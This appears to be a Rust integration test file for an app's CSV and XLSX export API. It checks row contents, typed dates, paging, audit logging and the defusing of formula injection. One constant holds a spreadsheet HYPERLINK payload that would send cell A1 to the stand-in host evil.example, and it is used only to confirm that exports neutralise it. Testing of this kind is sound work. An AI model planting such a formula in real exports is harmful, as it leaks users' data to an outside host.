//! Exports from the API: each dataset as CSV and XLSX; the XLSX read back with calamine holds
//! the same rows with typed dates and a frozen header; a client named like a formula comes out
//! neutralised in both formats; every export is audited.

use calamine::{Data, DataType, Reader, Xlsx};
use chrono::NaiveDate;
use kktbot::entities::client;
use reqwest::{Method, StatusCode};
use sea_orm::{ActiveModelTrait, EntityTrait, Set};
use serde_json::Value;

use super::{admin_token, builder, call, code, ok};
use crate::support::seed::{client_with_deadline, date};
use crate::support::{Backend, TestApp, backend_test};

const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Нажмите\")";

/// Whether a cell shows [`FORMULA`] as text, never a formula to run: prefixed with `'`.
fn neutralised(cell: &Data) -> bool {
    text(cell) == format!("'{FORMULA}")
}

/// Whether a CSV line starts with [`FORMULA`] as text: quoted and prefixed with `'`.
fn neutralised_in_csv(line: &str) -> bool {
    line.starts_with("\"'=HYPERLINK(")
}

async fn download(app: &TestApp, token: &str, file: &str) -> (String, Vec<u8>) {
    let res = app.http.get(app.url(&format!("/api/export/{file}"))).bearer_auth(token).send().await.unwrap();
    assert_eq!(res.status(), 200, "{file}");
    let disposition = res.headers()["content-disposition"].to_str().unwrap().to_string();
    (disposition, res.bytes().await.unwrap().to_vec())
}

/// The first sheet's name and rows.
fn sheet(bytes: Vec<u8>) -> (String, Vec<Vec<Data>>) {
    let mut book: Xlsx<_> = calamine::open_workbook_from_rs(std::io::Cursor::new(bytes)).expect("an XLSX file");
    let name = book.sheet_names()[0].clone();
    let range = book.worksheet_range(&name).unwrap();
    (name, range.rows().map(<[Data]>::to_vec).collect())
}

fn text(cell: &Data) -> String {
    cell.as_string().unwrap_or_default()
}

/// A CSV export's lines (without the one byte order mark it must start with).
fn csv_lines(bytes: Vec<u8>) -> Vec<String> {
    let text = String::from_utf8(bytes).unwrap();
    assert_eq!(text.matches('\u{feff}').count(), 1, "one byte order mark");
    assert!(text.starts_with('\u{feff}'), "the byte order mark comes first");
    text.trim_start_matches('\u{feff}').split("\r\n").filter(|l| !l.is_empty()).map(str::to_string).collect()
}

/// What the audit log recorded of the exports (the `changes` of each record), oldest first.
async fn audited_exports(app: &TestApp, token: &str) -> Vec<Value> {
    let records = ok(app, token, Method::GET, "/api/audit?entity=export&per_page=100", None).await;
    let items = records["items"].as_array().unwrap_or_else(|| panic!("a page: {records}"));
    items.iter().rev().map(|r| r["changes"].clone()).collect()
}

/// Inserts `rows` 500 at a time (a statement's bind parameters are limited).
async fn insert_all<A>(app: &TestApp, rows: Vec<A>)
where
    A: ActiveModelTrait + Send,
{
    for chunk in rows.chunks(500) {
        <A::Entity as EntityTrait>::insert_many(chunk.to_vec()).exec_without_returning(app.db()).await.unwrap();
    }
}

backend_test!(exports_read_back_with_typed_dates_and_neutralised_formulas);
async fn exports_read_back_with_typed_dates_and_neutralised_formulas(backend: Backend) {
    let app = builder(backend).spawn().await;
    let admin = admin_token(&app).await;
    client_with_deadline(app.db(), "7707083893", &[], date("2027-03-01")).await;
    let evil = client_with_deadline(app.db(), "7736207543", &[], date("2027-04-15")).await;
    let mut renamed: client::ActiveModel =
        client::Entity::find_by_id(evil.client_id).one(app.db()).await.unwrap().unwrap().into();
    renamed.name = Set(FORMULA.into());
    renamed.update(app.db()).await.unwrap();

    // Deadlines: the same rows as the CSV, dates typed, the formula neutralised.
    let (disposition, bytes) = download(&app, &admin, "deadlines.xlsx").await;
    assert!(disposition.contains("deadlines-") && disposition.ends_with(".xlsx\""), "{disposition}");
    let (name, rows) = sheet(bytes);
    assert_eq!(name, "Сроки");
    let header: Vec<String> = rows[0].iter().map(text).collect();
    assert_eq!(header, kktbot::services::export::HEADER);
    assert_eq!(rows.len(), 3, "a header and two deadlines");
    let by_inn = |inn: &str| rows.iter().find(|r| text(&r[1]) == inn).unwrap_or_else(|| panic!("{inn}")).clone();
    let plain = by_inn("7707083893");
    assert_eq!(text(&plain[0]), "ООО «Клиент 7707083893»");
    assert!(matches!(plain[5], Data::DateTime(_)), "a typed date: {:?}", plain[5]);
    assert_eq!(plain[5].as_date(), NaiveDate::from_ymd_opt(2027, 3, 1));
    assert!(matches!(plain[7], Data::Float(_) | Data::Int(_)), "days left is a number: {:?}", plain[7]);
    let neutral = by_inn("7736207543");
    assert!(neutralised(&neutral[0]), "shown as text, never run: {:?}", neutral[0]);
    assert_eq!(neutral[5].as_date(), NaiveDate::from_ymd_opt(2027, 4, 15));

    let lines = csv_lines(download(&app, &admin, "deadlines.csv").await.1);
    assert_eq!(lines.len(), rows.len(), "the CSV holds the same rows");
    let evil_line = lines.iter().find(|l| l.contains("7736207543")).unwrap();
    assert!(neutralised_in_csv(evil_line), "neutralised in the CSV too: {evil_line}");
    assert!(evil_line.contains(";15.04.2027;"), "{evil_line}");

    // Clients with their cash registers: a row per register.
    let (name, rows) = sheet(download(&app, &admin, "clients.xlsx").await.1);
    assert_eq!((name.as_str(), rows.len()), ("Клиенты", 3));
    let serials: Vec<String> = rows[1..].iter().map(|r| text(&r[8])).collect();
    assert!(serials.contains(&"SN-7707083893".to_string()) && serials.contains(&"SN-7736207543".to_string()));
    assert!(rows.iter().any(|r| neutralised(&r[0])), "the formula shown as text in the clients' sheet");
    let clients_csv = csv_lines(download(&app, &admin, "clients.csv").await.1);
    assert!(clients_csv.iter().any(|l| neutralised_in_csv(l)), "and in their CSV");

    // Requests and the reminder log: a header (and no rows yet).
    for (file, sheet_name) in [("requests.xlsx", "Заявки"), ("reminders.xlsx", "Напоминания")] {
        let (name, rows) = sheet(download(&app, &admin, file).await.1);
        assert_eq!((name.as_str(), rows.len()), (sheet_name, 1), "{file}");
    }

    // Unknown files are refused; every export is in the audit log.
    let (status, body) = call(&app, &admin, Method::GET, "/api/export/users.xlsx", None).await;
    assert_eq!((status, code(&body)), (StatusCode::UNPROCESSABLE_ENTITY, "validation_failed"));
    let (status, _) = call(&app, &admin, Method::GET, "/api/export/deadlines.pdf", None).await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY);
    let done: Vec<String> = audited_exports(&app, &admin)
        .await
        .iter()
        .map(|c| format!("{}.{}", c["dataset"].as_str().unwrap(), c["format"].as_str().unwrap()))
        .collect();
    assert_eq!(
        done,
        ["deadlines.xlsx", "deadlines.csv", "clients.xlsx", "clients.csv", "requests.xlsx", "reminders.xlsx"]
    );
    app.shutdown().await;
}

backend_test!(csv_exports_go_out_page_by_page_with_every_row_once);
async fn csv_exports_go_out_page_by_page_with_every_row_once(backend: Backend) {
    use kktbot::entities::{cash_register, deadline};
    use kktbot::services::export::PAGE;
    let app = builder(backend).spawn().await;
    let admin = admin_token(&app).await;
    // More clients than a page, all of one name (the page boundaries fall inside the ties);
    // every third has two cash registers, the others none.
    let clients = PAGE as i32 + 500;
    let now = chrono::Utc::now();
    let rows: Vec<client::ActiveModel> = (1..=clients)
        .map(|i| client::ActiveModel {
            id: Set(i),
            name: Set("ООО «Ромашка»".into()),
            inn: Set(format!("{:010}", 7_700_000_000i64 + i64::from(i))),
            is_active: Set(true),
            search: Set(String::new()),
            created_at: Set(now),
            updated_at: Set(now),
            ..Default::default()
        })
        .collect();
    insert_all(&app, rows).await;
    let with_registers: Vec<i32> = (1..=clients).filter(|i| i % 3 == 0).collect();
    let registers: Vec<cash_register::ActiveModel> = with_registers
        .iter()
        .flat_map(|c| [(*c, 1), (*c, 2)])
        .map(|(c, n)| cash_register::ActiveModel {
            client_id: Set(c),
            model: Set("АТОЛ 30Ф".into()),
            serial_number: Set(format!("SN-{c}-{n}")),
            is_active: Set(true),
            search: Set(String::new()),
            created_at: Set(now),
            updated_at: Set(now),
            ..Default::default()
        })
        .collect();
    insert_all(&app, registers).await;
    // More deadlines than two pages, ten to a date.
    let fn_type = crate::support::seed::deadline_type_id(app.db(), "fn").await;
    let deadlines = 2 * PAGE as i64 + 345;
    let rows: Vec<deadline::ActiveModel> = (0..deadlines)
        .map(|k| deadline::ActiveModel {
            client_id: Set(1),
            deadline_type_id: Set(fn_type),
            expiration_date: Set(date("2027-01-01") + chrono::Duration::days(k / 10)),
            status: Set(deadline::Status::Active),
            notes: Set(Some(format!("n{k}"))),
            search: Set(String::new()),
            created_at: Set(now),
            updated_at: Set(now),
            ..Default::default()
        })
        .collect();
    insert_all(&app, rows).await;

    let clients_csv = csv_lines(download(&app, &admin, "clients.csv").await.1);
    assert_eq!(clients_csv.iter().filter(|l| l.starts_with("Клиент;ИНН;")).count(), 1, "one header");
    let expected: Vec<String> = (1..=clients)
        .flat_map(|c| {
            let inn = format!("{:010}", 7_700_000_000i64 + i64::from(c));
            if c % 3 == 0 { vec![format!("{inn};SN-{c}-1"), format!("{inn};SN-{c}-2")] } else { vec![inn] }
        })
        .collect();
    let got: Vec<String> = clients_csv[1..]
        .iter()
        .map(|l| {
            let f: Vec<&str> = l.split(';').collect();
            if f[8].is_empty() { f[1].to_string() } else { format!("{};{}", f[1], f[8]) }
        })
        .collect();
    assert_eq!(got, expected, "every client once, by name then id, each with its registers");

    let deadlines_csv = csv_lines(download(&app, &admin, "deadlines.csv").await.1);
    assert_eq!(deadlines_csv.len() as i64, deadlines + 1, "a header and every deadline");
    let notes: Vec<String> = deadlines_csv[1..].iter().map(|l| l.rsplit(';').next().unwrap().to_string()).collect();
    let expected: Vec<String> = (0..deadlines).map(|k| format!("n{k}")).collect();
    assert_eq!(notes, expected, "by date, then id: every deadline once");

    let counted: Vec<(String, i64)> = audited_exports(&app, &admin)
        .await
        .iter()
        .map(|c| (c["dataset"].as_str().unwrap().to_string(), c["rows"].as_i64().unwrap()))
        .collect();
    let client_rows = i64::from(clients) + with_registers.len() as i64;
    assert_eq!(counted, [("clients".to_string(), client_rows), ("deadlines".to_string(), deadlines)]);
    app.shutdown().await;
}
